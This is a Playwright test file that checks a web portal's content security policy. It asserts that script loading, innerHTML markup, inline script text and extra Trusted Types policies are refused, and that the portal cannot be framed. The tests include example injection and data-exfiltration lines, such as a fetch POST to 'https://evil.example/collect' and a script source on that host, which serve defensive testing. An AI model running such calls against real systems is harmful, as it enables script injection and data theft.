import type { Page } from 'playwright/test';
import { expect, test } from '../../fixtures/portal.ts';

async function frameOf(page: Page, url: string): Promise<string> {
  await page.evaluate((address) => {
    const frame = Object.assign(document.createElement('iframe'), { src: address, name: 'inner' });
    document.body.append(frame);
    return new Promise((resolve) => frame.addEventListener('load', resolve));
  }, url);
  const frame = page.frame('inner');
  return frame?.url() ?? '';
}

test('content policy: refused are text as markup or script, a foreign frame and data sent elsewhere', async ({
  page,
}) => {
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.goto('/kontak', { waitUntil: 'networkidle' });
  const refused = await page.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      'script URL': () => {
        document.createElement('script').src = 'https://evil.example/a.js';
      },
      markup: () => {
        document.body.innerHTML = '<b>Promosi</b>';
      },
      'script text': () => {
        document.createElement('script').textContent = 'window.foreignRan = true';
      },
      'another policy': () => Object(window).trustedTypes.createPolicy('own', {}),
    };
    return Object.entries(attempts)
      .filter(([, attempt]) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      })
      .map(([name]) => name);
  });
  expect(refused).toEqual(['script URL', 'markup', 'script text', 'another policy']);
  const sent = await page.evaluate(() =>
    fetch('https://evil.example/collect', { method: 'POST', body: 'data' }).then(
      () => true,
      () => false,
    ),
  );
  expect(sent).toBe(false);
  await frameOf(page, 'https://evil.example/frame');
  expect(asked).toEqual([]);
});

test('content policy: no other page can frame the portal', async ({ page, portal }) => {
  await page.route('http://localhost:1/**', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Outer</title>' }),
  );
  await page.goto('http://localhost:1/outer');
  expect(await frameOf(page, `${portal.url}/login`)).toContain('chrome-error:');
});
